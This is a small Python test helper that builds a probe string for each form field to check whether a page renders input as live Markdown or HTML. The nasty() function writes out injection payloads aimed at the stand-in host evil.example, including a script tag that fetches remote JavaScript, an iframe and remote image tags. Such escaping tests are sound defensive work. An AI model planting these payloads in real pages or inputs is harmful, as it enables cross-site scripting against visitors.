"""A text for every field that would take effect, were it shown as Markdown or HTML."""

import re

HOST = "evil.example"
ICON = "pets"
"""An icon that no page of ours has."""
written: set[str] = set()
"""The fields that have been filled."""
UNSEEN = {
    *("File", "Template"),  # shown, but not letter by letter: see the tests of those
    *("Model", "Base", "Language", "Hub id", "System prompt", "Result note", "Finish", "Progress"),
    *("Notice", "Said", "So", "Reason queued", "Reason paused"),  # to no page's purpose
    *(
        "After",
        "Note",
        "Word",
        "Reason failed",
        "Reply",
        "Other",
        "Must question",
        "Must expected",
    ),  # in columns that are drawn once one scrolls there
}
"""Those of them that no page shows as they are."""


def nasty(field: str) -> str:
    """A text that begins with its field's name, and tries whatever a page could be made to do."""
    written.add(field)
    place = f"http://{HOST}/{re.sub(r'[^a-z0-9]', '-', field.lower())}"
    return (
        f"{field} ![p]({place}.png) [l]({place}) <{place}> <img src='{place}.gif'> "
        f"<script>fetch('{place}.js')</script> <iframe src='{place}'></iframe> {place}?auto "
        f"www.{HOST} eve@{HOST} :material/{ICON}: :material_{ICON}: :smile: :red[r] $x^2$ **b** `c`"
    )
